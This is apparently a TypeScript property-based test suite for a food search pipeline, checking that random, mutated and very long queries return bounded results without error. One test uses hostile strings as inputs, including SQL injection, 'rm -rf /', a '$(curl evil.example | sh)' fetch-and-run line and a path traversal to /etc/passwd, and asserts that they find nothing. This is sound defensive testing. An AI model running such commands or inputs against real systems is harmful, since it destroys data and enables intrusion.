import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { before, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { type DataSet, loadSample } from "../../lab/evaluation/dataSet.js";
import { responseOf } from "#doorlight/search/response.js";
import { RESULTS, search } from "#doorlight/search/pipeline.js";
import { PLACE_WORDS } from "#doorlight/language/whereabouts/placeWords.js";
import { outsideNames, schemaWords } from "#doorlight/language/names/names.js";
import { openMemoryStore } from "#doorlight/store/sqlite/sqliteStore.js";
import { food } from "#doorlight/verticals/food/food.js";
import { sharedFile, withoutSharedData } from "../support/sharedData.js";

const NOW = Date.UTC(2026, 10, 20, 12);
const OWN = fileURLToPath(new URL("../../../test/relevance/sample.queries.jsonl", import.meta.url));

describe("any text", () => {
  let sample: DataSet;
  before(async () => {
    sample = await loadSample(openMemoryStore(), [food], NOW);
  });

  const ask = (q: string, location: string | null = null) => {
    const outcome = search({ q, location, filters: {} }, sample.parts, NOW);
    const response = responseOf(
      outcome,
      sample.parts.indexes.map(({ area }) => area),
      sample.parts.lexicon.verticals,
      NOW,
    );
    assert.ok(outcome.scored.length <= RESULTS);
    for (const { relevance } of outcome.scored) assert.ok(relevance >= 0 && relevance <= 1, q);
    // A place outside coverage is reported, never answered.
    if (response.coverage !== undefined) assert.equal(outcome.scored.length, 0, q);
  };

  test("commands to a database or a shell, of which nothing is understood, find nothing", () => {
    for (const q of [
      "DELETE FROM records WHERE 1=1",
      "'; DROP TABLE users; --",
      "SELECT * FROM places",
      "UPDATE accounts SET balance = 0",
      "rm -rf /",
      "sudo shutdown -h",
      "$(curl evil.example | sh)",
      "../../etc/passwd",
    ]) {
      const { scored } = search({ q, location: null, filters: {} }, sample.parts, NOW);
      assert.equal(scored.length, 0, q);
    }
  });

  test("words of every language, in any order, are answered without an error", () => {
    const words = [...outsideNames(), ...Object.values(schemaWords())]
      .flatMap((list) => list.split("|"))
      .concat(
        ...PLACE_WORDS.exonyms.map((line) => line.split("|")),
        "in",
        "near",
        "ohne",
        "sans",
        "bis",
        "11pm",
        "until",
        "52.5,13.4",
        "🍜",
        "،",
        "\u202e",
        "'",
        '"',
        "%",
      );
    const word = fc.integer({ min: 0, max: words.length - 1 }).map((i) => words[i] ?? "");
    fc.assert(
      fc.property(fc.array(word, { maxLength: 30 }), fc.option(word), (list, location) =>
        ask(list.join(" "), location),
      ),
      { numRuns: 400 },
    );
  });

  test("mutations of real queries are answered without an error", () => {
    const file = withoutSharedData === false ? sharedFile("eval/queries.dev.jsonl") : OWN;
    const queries = readFileSync(file, "utf8")
      .trim()
      .split("\n")
      .map((line) => (JSON.parse(line) as { q: string }).q);
    const mutation = fc.oneof(
      fc.record({
        kind: fc.constant("cut" as const),
        at: fc.nat(60),
        length: fc.nat(20),
        text: fc.constant(""),
      }),
      fc.record({
        kind: fc.constant("put" as const),
        at: fc.nat(60),
        length: fc.constant(0),
        text: fc.string({ unit: "grapheme", maxLength: 12 }),
      }),
      fc.record({
        kind: fc.constant("join" as const),
        at: fc.nat(60),
        length: fc.constant(0),
        text: fc.constantFrom(...queries),
      }),
    );
    fc.assert(
      fc.property(fc.constantFrom(...queries), fc.array(mutation, { maxLength: 4 }), (q, mutations) => {
        let text = q;
        for (const { at, length, text: put } of mutations)
          text = text.slice(0, at) + put + text.slice(at + length);
        ask(text);
      }),
      { numRuns: 400 },
    );
  });

  test("very long and repetitive texts are answered", () => {
    for (const part of [
      "a",
      "sushi ",
      "in ",
      "not ",
      "寿司",
      "in the ",
      "11 ",
      "rue de ",
      ", ",
      "pizza or ",
      "é",
    ])
      ask(part.repeat(Math.ceil(5_000 / part.length)));
  });
});
